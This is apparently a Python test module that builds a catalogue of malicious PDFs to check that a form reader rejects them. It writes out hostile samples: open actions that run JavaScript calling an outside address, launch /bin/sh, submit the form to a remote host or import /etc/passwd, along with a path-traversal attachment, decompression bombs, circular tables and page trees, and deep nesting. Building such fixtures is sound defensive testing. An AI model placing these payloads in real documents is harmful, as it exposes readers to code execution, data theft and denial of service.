"""PDFs: what they would run, what unpacks without end, and what goes round in circles."""

from __future__ import annotations

import io
import warnings
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import test_fillable
from pikepdf import Array, Dictionary, Name, String

from hostile.catalogue import Build, add, sound

Change = Callable[[pikepdf.Pdf], Any]


def changed(change: Change) -> bytes:
    """The form with something changed, packed as tightly as may be."""
    with warnings.catch_warnings(), pikepdf.open(io.BytesIO(sound("pdf"))) as opened:
        warnings.simplefilter("ignore")  # pikepdf’s, about fields in a circle
        change(opened)
        made = io.BytesIO()
        opened.save(made, compress_streams=True)
    return made.getvalue()


def script(_opened: pikepdf.Pdf) -> Any:
    return Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://203.0.113.9/')"))


def root(**keys: Callable[[pikepdf.Pdf], Any]) -> Build:
    """Builds the form with more in its root."""

    def change(opened: pikepdf.Pdf) -> None:
        for name, made in keys.items():
            opened.Root[f"/{name}"] = made(opened)

    return lambda: changed(change)


ARMED: dict[str, Build] = {
    "a script": root(OpenAction=script),
    "a program": root(OpenAction=lambda _: Dictionary(S=Name.Launch, F=String("/bin/sh"))),
    "an address": root(OpenAction=lambda _: Dictionary(S=Name.URI, URI=String("http://203.0.113.9/"))),
    "a page elsewhere": root(
        OpenAction=lambda _: Dictionary(S=Name.GoToR, F=String("\\\\203.0.113.9\\x"), D=Array([0]))
    ),
    "a form sent away": root(OpenAction=lambda _: Dictionary(S=Name.SubmitForm, F=String("http://203.0.113.9/"))),
    "a file brought in": root(OpenAction=lambda _: Dictionary(S=Name.ImportData, F=String("/etc/passwd"))),
    "scripts by name": root(Names=lambda o: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script(o)])))),
    "scripts of its own": root(AA=lambda o: Dictionary(WC=script(o))),
    "files inside": lambda: changed(lambda o: o.attachments.__setitem__("../../evil.exe", b"MZ" * 99)),
    "a bomb inside": lambda: changed(lambda o: o.attachments.__setitem__("bomb.bin", b"\0" * 50_000_000)),
    "a portfolio": root(Collection=lambda _: Dictionary(Type=Name.Collection)),
}
for told, build in ARMED.items():
    add(f"a PDF with {told}", "pdf", "To have something run, opened or sent when the form opens.", build, "", "note")

for attack, ends in (
    (test_fillable.deep, "too-much-markup"),
    (test_fillable.many, "too-much-markup"),
    (test_fillable.wide, "too-much-markup"),
    (test_fillable.swollen, "too-much-markup"),
    (test_fillable.loop, ""),
):
    add(
        f"a PDF that is {attack.__name__}",
        "pdf",
        "To use up the stack, the memory or the time of whoever reads it.",
        lambda attack=attack: changed(attack),
        ends,
    )
add(
    "a PDF with a form of another kind",
    "pdf",
    "To have XML of Adobe’s read (XFA).",
    lambda: changed(lambda o: o.Root.AcroForm.__setattr__("XFA", String("<xdp/>"))),
    "pdf-xfa",
)
add("a PDF that is locked", "pdf", "To be taken for a scan.", lambda: locked("open"), "password")
add(
    "a PDF that is locked without a password",
    "pdf",
    "To hide from a scanner what everybody can open.",
    lambda: locked(""),
    "password",
)


def locked(password: str) -> bytes:
    return test_fillable.locked_up(sound("pdf"), password)


# ------------------------------------------------------------------------------------------ written by hand


def by_hand(*objects: bytes, more: bytes = b"", trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of these objects, the first of which is its root."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += more
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return (
        out + head + table + b"trailer<</Size %d %s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, len(out))
    )


def stream(content: bytes, keys: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (keys, len(content), content)


def packed(content: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


NOTHING = b"\0" * 100_000_000
CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def _objects_in_a_stream() -> bytes:
    """A file whose page is in a stream of objects that unpacks to 100 MB."""
    inner = b"3 0 " + PAGE + b" " * 100_000_000
    body = stream(packed(inner), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    return _with_xref_stream([CATALOG, PAGES, None, body])


def _with_xref_stream(
    objects: list[bytes | None],
    keys: bytes = b"",
    rows: bytes = b"",
    filters: bytes = b"/FlateDecode",
    times: int = 1,
    after: bytes = b"",
) -> bytes:
    out, found = b"%PDF-1.7\n", [b"\0\0\0\0\0\0"]
    for number, body in enumerate(objects, 1):
        if body is None:
            found.append(b"\2" + (4).to_bytes(4, "big") + b"\0")
            continue
        found.append(b"\1" + len(out).to_bytes(4, "big") + b"\0")
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, number = len(out), len(objects) + 1
    found.append(b"\1" + start.to_bytes(4, "big") + b"\0")
    table = packed(b"".join(found) + rows, times)
    told = b"/Type/XRef/W[1 4 1]/Root 1 0 R/Size %d/Filter%s" % (number + 1 + len(rows) // 6, filters)
    return (
        out
        + b"%d 0 obj\n%s\nendobj\n" % (number, stream(table, told + keys))
        + b"startxref\n%d\n%%%%EOF" % start
        + after
    )


HAND: dict[str, tuple[str, Build, str]] = {
    "objects that unpack without end": (
        "To have 100 MB unpacked before a page is seen.",
        _objects_in_a_stream,
        "to_type_in",
    ),
    "a table that unpacks without end": (
        "To have 100 MB of a table unpacked on opening.",
        lambda: _with_xref_stream([CATALOG, PAGES, PAGE], rows=NOTHING),
        "to_type_in",
    ),
    "a table packed three times": (
        "To have a bomb in a bomb in a bomb unpacked.",
        lambda: _with_xref_stream(
            [CATALOG, PAGES, PAGE], rows=NOTHING, times=3, filters=b"[/FlateDecode/FlateDecode/FlateDecode]"
        ),
        "to_type_in",
    ),
    "a table of a thousand million": (
        "To have memory set aside for objects that are not there.",
        lambda: by_hand(CATALOG, PAGES, PAGE).replace(b"/Size 4", b"/Size 2147483647"),
        "to_type_in",
    ),
    "tables in a circle": (
        "To go from table to table for ever.",
        lambda: by_hand(CATALOG, PAGES, PAGE, trailer=b"/Root 1 0 R/Prev 210"),
        "to_type_in",
    ),
    "a table before the beginning": (
        "To have bytes read from before the file.",
        lambda: by_hand(CATALOG, PAGES, PAGE, trailer=b"/Root 1 0 R/Prev -1"),
        "to_type_in",
    ),
    "pages in a circle": (
        "To have a tree walked that has no end.",
        lambda: by_hand(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
        "damaged",
    ),
    "one page a million times": (
        "To have one page looked at a million times.",
        lambda: by_hand(CATALOG, b"<</Type/Pages/Kids[%s]/Count 9>>" % (b"3 0 R " * 1_000_000), PAGE),
        "too-slow|damaged|too-much-markup",
    ),
    "a nest without end": ("To use up the stack.", lambda: by_hand(b"[" * 2_000_000), "damaged"),
    "a nest of dictionaries": (
        "To use up the stack.",
        lambda: by_hand(CATALOG[:-2] + b"/A" + b"<</A" * 500_000, PAGES, PAGE),
        "damaged",
    ),
    "a length that lies": (
        "To have bytes read that are not there.",
        lambda: by_hand(CATALOG, PAGES, PAGE, b"<</Length 2147483647>>stream\nx\nendstream"),
        "to_type_in",
    ),
    "a length that names itself": (
        "To go round in a circle.",
        lambda: by_hand(CATALOG[:-2] + b"/Metadata 4 0 R>>", PAGES, PAGE, b"<</Length 4 0 R>>stream\nx\nendstream"),
        "to_type_in",
    ),
    "properties that unpack without end": (
        "To have 100 MB unpacked where a title stands.",
        lambda: by_hand(
            CATALOG[:-2] + b"/Metadata 4 0 R>>", PAGES, PAGE, stream(packed(NOTHING), b"/Filter/FlateDecode")
        ),
        "to_type_in",
    ),
    "objects without a table": (
        "To have ten million words searched for objects.",
        lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 4_000_000,
        "too-slow|damaged|too-much-markup",
    ),
    "a million objects": (
        "To have a million objects kept.",
        lambda: b"%PDF-1.7\n" + b"".join(b"%d 0 obj<</A 1>>endobj\n" % n for n in range(1, 1_000_000)),
        "too-slow|damaged|too-much-markup",
    ),
    "a page with a million remarks": (
        "To have a million remarks looked at.",
        lambda: by_hand(CATALOG, PAGES, PAGE[:-2] + b"/Annots[%s]>>" % (b"4 0 R " * 1_000_000), b"<</Subtype/Text>>"),
        "too-slow|damaged|too-much-markup",
    ),
    "boxes whose parents go round": (
        "To go from box to box for ever.",
        lambda: by_hand(
            CATALOG,
            PAGES,
            PAGE[:-2] + b"/Annots[4 0 R]>>",
            b"<</Subtype/Widget/Parent 5 0 R/T(Q01)>>",
            b"<</Parent 4 0 R>>",
        ),
        "to_type_in",
    ),
    "no pages": ("To have nothing taken for a scan.", lambda: by_hand(b"<</Type/Catalog>>"), "damaged"),
    "a root that is no dictionary": ("To make the reader fall over.", lambda: by_hand(b"(x)"), "damaged"),
    "noise": ("To make the reader fall over.", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 9_000, "damaged"),
}
for told, (wants, build, ends) in HAND.items():
    add(f"a PDF of {told}", "pdf", wants, build, ends)
for tenth in (2, 5, 8):
    add(
        f"a PDF cut after {tenth} tenths",
        "pdf",
        "To have half of a form taken for the whole.",
        lambda tenth=tenth: sound("pdf")[: len(sound("pdf")) * tenth // 10],
        "damaged",
    )
